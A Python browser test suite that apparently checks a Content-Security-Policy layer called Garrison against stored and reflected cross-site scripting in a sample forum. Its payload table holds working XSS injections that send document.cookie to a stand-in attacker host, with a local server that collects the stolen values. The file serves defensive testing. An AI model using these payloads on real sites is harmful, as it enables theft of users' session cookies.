"""Planted script, stored and reflected (CWE-79), in Chromium.

The forum writes what it is sent into its pages. Without Garrison each payload reaches the attacker's server; with it
the Content-Security-Policy stops each, and the browser's report of that becomes an event.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import BrowserContext, Page
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response
from starlette.routing import Route

from tests.browser.conftest import Serve
from tests.browser.forum import Forum
from tests.browser.serving import eventually, guard
from tests.browser.watching import Watch

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

SEND = "new Image().src='EVIL/take/NAME?cookies='+document.cookie"
PAYLOADS = {
    "script": f"<script>{SEND}</script>",
    "foreign-script": "<script src='EVIL/script'></script>",
    "handler": f'<img src="/nothing" onerror="{SEND}">',
    "svg": f'<svg onload="{SEND}"></svg>',
    "link": f'<a id=bait href="javascript:void({SEND})">prize</a>',
    "frame": f'<iframe srcdoc="<script>{SEND}</script>"></iframe>',
    "form": "<form action='EVIL/take/NAME'><input name=password value=secret><button id=bait>Go on</button></form>",
    "stylesheet": "<link rel=stylesheet href='EVIL/take/NAME'>",
}


@dataclass
class Attacker:
    """A server that takes what it is sent and hands out script."""

    taken: list[str] = field(default_factory=list)

    @property
    def app(self) -> Starlette:
        return Starlette(routes=[Route("/take/{name}", self.take), Route("/script", self.script)])

    async def take(self, request: Request) -> Response:
        self.taken.append(request.path_params["name"])
        return PlainTextResponse("thanks")

    async def script(self, request: Request) -> Response:
        script = SEND.replace("EVIL", str(request.base_url).rstrip("/")).replace("NAME", "foreign-script")
        return Response(script, media_type="text/javascript")


def payload(name: str, evil: str) -> str:
    return PAYLOADS[name].replace("EVIL", evil).replace("NAME", name)


def visit(page: Page, address: str) -> None:
    page.goto(address)
    if page.locator("#bait").count():
        page.locator("#bait").click(no_wait_after=True)


@pytest.mark.parametrize("name", PAYLOADS)
def test_reflected_script_is_stopped_and_reported(
    serve: Serve, visitor: BrowserContext, watch: Watch, folder: Path, name: str
) -> None:
    attacker = Attacker()
    evil = serve(attacker.app).at("evil.localhost")
    app, events = guard(Forum().app, folder)
    asked = "/search?q=" + quote(payload(name, evil))

    page = visitor.new_page()
    visit(page, serve(app).url + asked)
    assert watch.wait_for_violation(page)
    assert attacker.taken == []
    if name != "frame":  # Chromium sends no reports of a srcdoc frame, though it enforces the policy there
        assert events.wait(name="browser_report")["details"]["kind"] == "csp-violation"

    visit(visitor.new_page(), serve(Forum().app).url + asked)
    assert eventually(lambda: attacker.taken) == [name]  # control


def test_stored_script_is_stopped_for_every_reader(
    serve: Serve, visitor: BrowserContext, watch: Watch, folder: Path
) -> None:
    attacker, forum, bare = Attacker(), Forum(), Forum()
    evil = serve(attacker.app).at("evil.localhost")
    forum.posts = bare.posts = [payload(name, evil) for name in PAYLOADS]
    app, events = guard(forum.app, folder)

    page = visitor.new_page()
    page.goto(serve(app).url)
    assert page.locator("article").count() == len(PAYLOADS)
    events.wait(name="browser_report", seconds=15)
    assert {text.split()[0] for text in watch.violations} >= {"script-src-elem", "script-src-attr", "style-src-elem"}
    assert attacker.taken == []

    visitor.new_page().goto(serve(bare.app).url)
    unasked = PAYLOADS.keys() - {"link", "form"}
    assert eventually(lambda: set(attacker.taken) >= unasked)  # control: all that need no click


def test_a_report_names_the_rule_and_hides_what_the_address_held(
    serve: Serve, visitor: BrowserContext, folder: Path
) -> None:
    app, events = guard(Forum().app, folder)

    visitor.new_page().goto(serve(app).url + "/search?q=" + quote("<script>secret</script>"))

    event = events.wait(name="browser_report")
    assert event["path"] == "/.garrison/reports"
    assert event["details"]["rule"] == "script-src-elem"
    assert event["details"]["blocked"] == "inline"
    assert event["details"]["url"].endswith("/search")  # without its query
    assert "secret" not in str(event)
